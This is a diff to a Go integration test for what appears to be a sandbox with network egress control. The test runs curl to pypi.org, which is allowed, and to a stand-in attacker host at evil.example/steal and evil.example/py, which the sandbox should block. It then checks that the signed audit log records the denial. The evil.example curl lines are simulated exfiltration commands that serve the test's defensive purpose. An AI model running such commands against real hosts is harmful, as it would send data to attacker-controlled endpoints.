@@ -76,7 +76,7 @@ func TestUserdGoClient(t *testing.T) {
 	res, err := c.Exec(ctx, sb.ID, api.ExecRequest{Argv: []string{"/bin/sh", "-c", `
 curl -sS --max-time 60 -o /tmp/body -w 'get=%{http_code}\n' https://pypi.org/simple/
 echo "body=$(cat /tmp/body)"
-curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v
+curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v || true
 `}}, client.ExecIO{Stdout: &out, Stderr: os.Stderr})
 	if err != nil {
 		t.Fatal(err)
@@ -228,7 +228,7 @@ c = a.Client()
 assert c.socket == a.default_socket() == a.user_socket(), (c.socket, a.user_socket())
 print("socket=" + c.socket)
 print("health=%s" % c.health().ok)
-r = c.run(["/bin/sh", "-c", "curl -sS --max-time 60 -o /dev/null -w 'get=%{http_code}\\n' https://pypi.org/simple/; curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\\n' https://evil.example/py"], allow=["pypi.org"])
+r = c.run(["/bin/sh", "-c", "curl -sS --max-time 60 -o /dev/null -w 'get=%{http_code}\\n' https://pypi.org/simple/; curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\\n' https://evil.example/py || true"], allow=["pypi.org"])
 print(r.stdout, end="")
 print("exit=%d" % r.result.exit_code)
 `
@@ -251,7 +251,7 @@ print("exit=%d" % r.result.exit_code)
 		t.Errorf("evil.example: got %d connections, %d requests, want none", de.conns, de.requests)
 	}
 	recs := readRootlessLog(t, e.audit)
-	mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "pypi.org", method: "GET"})
+	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionAllow, host: "pypi.org"})
 	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionDeny, host: "evil.example"})
 	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
 	if out, err := exec.Command(w.bin, "audit", "verify", "--pubkey", e.audit+".key.pub", e.audit).CombinedOutput(); err != nil {
